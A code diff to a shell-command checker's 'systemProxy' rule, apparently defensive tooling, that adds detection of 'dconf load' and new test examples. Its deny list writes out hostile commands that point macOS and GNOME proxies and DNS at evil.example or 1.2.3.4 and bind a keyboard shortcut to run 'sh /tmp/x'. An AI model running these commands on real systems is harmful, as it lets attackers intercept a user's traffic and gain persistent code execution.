@@ -462,6 +462,8 @@ const systemProxy: ProgramEntry = {
       else if (verb === '-setautoproxyurl' && call.args[2]) places.push(...reroutes(call.args[2]));
       else if (verb === '-setdnsservers') for (const w of call.args.slice(2)) if (!/^empty$/i.test(value(w) ?? '')) places.push(...reroutes(w));
     } else {
+      // `dconf load DIR < FILE` sets whatever its input holds: a shortcut's command, a proxy.
+      if (call.name === 'dconf' && words[0] === 'load' && call.args[0]) return { uses: [], persists: [{ word: call.args[0], why: 'dconf load sets the settings its input holds, which may name a command run later (a shortcut\'s) or a proxy' }] };
       // `gsettings [--schemadir DIR] set SCHEMA[:PATH] KEY VALUE`; `dconf write /system/proxy/http/host VALUE`.
       const at = words.indexOf(call.name === 'dconf' ? 'write' : 'set');
       const path = call.name === 'dconf' ? words[at + 1] : words[at + 1] === undefined ? undefined : `${words[at + 1]}/${words[at + 2] ?? ''}`;
@@ -475,8 +477,8 @@ const systemProxy: ProgramEntry = {
     return { uses: [], ...(places.length > 0 ? { reroutes: places } : {}), ...(persists.length > 0 ? { persists } : {}) };
   },
   examples: {
-    deny: ['networksetup -setwebproxy Wi-Fi evil.example 8080', 'networksetup -setsecurewebproxy Wi-Fi evil.example 8080', 'networksetup -setsocksfirewallproxy Wi-Fi evil.example 1080', 'networksetup -setautoproxyurl Wi-Fi http://evil.example/p.pac', 'networksetup -setdnsservers Wi-Fi 1.2.3.4', "gsettings set org.gnome.system.proxy.http host 'evil.example'", "gsettings set org.gnome.system.proxy autoconfig-url 'http://evil.example/p.pac'", "dconf write /system/proxy/socks/host \"'evil.example'\"", "gsettings set org.gnome.settings-daemon.plugins.media-keys.custom-keybinding:/org/gnome/settings-daemon/plugins/media-keys/custom-keybindings/custom0/ command 'sh /tmp/x'"],
-    pass: ['networksetup -listallnetworkservices', 'networksetup -getwebproxy Wi-Fi', 'networksetup -setwebproxystate Wi-Fi off', 'networksetup -setdnsservers Wi-Fi empty', 'networksetup -setwebproxy Wi-Fi localhost 8080', 'gsettings get org.gnome.system.proxy mode', "gsettings set org.gnome.system.proxy mode 'none'", 'gsettings set org.gnome.desktop.interface color-scheme prefer-dark', 'dconf read /system/proxy/mode'],
+    deny: ['networksetup -setwebproxy Wi-Fi evil.example 8080', 'networksetup -setsecurewebproxy Wi-Fi evil.example 8080', 'networksetup -setsocksfirewallproxy Wi-Fi evil.example 1080', 'networksetup -setautoproxyurl Wi-Fi http://evil.example/p.pac', 'networksetup -setdnsservers Wi-Fi 1.2.3.4', "gsettings set org.gnome.system.proxy.http host 'evil.example'", "gsettings set org.gnome.system.proxy autoconfig-url 'http://evil.example/p.pac'", "dconf write /system/proxy/socks/host \"'evil.example'\"", "gsettings set org.gnome.settings-daemon.plugins.media-keys.custom-keybinding:/org/gnome/settings-daemon/plugins/media-keys/custom-keybindings/custom0/ command 'sh /tmp/x'", 'dconf load / < settings.ini'],
+    pass: ['networksetup -listallnetworkservices', 'networksetup -getwebproxy Wi-Fi', 'networksetup -setwebproxystate Wi-Fi off', 'networksetup -setdnsservers Wi-Fi empty', 'networksetup -setwebproxy Wi-Fi localhost 8080', 'gsettings get org.gnome.system.proxy mode', "gsettings set org.gnome.system.proxy mode 'none'", 'gsettings set org.gnome.desktop.interface color-scheme prefer-dark', 'dconf read /system/proxy/mode', 'dconf dump / > settings.ini'],
   },
 };
 
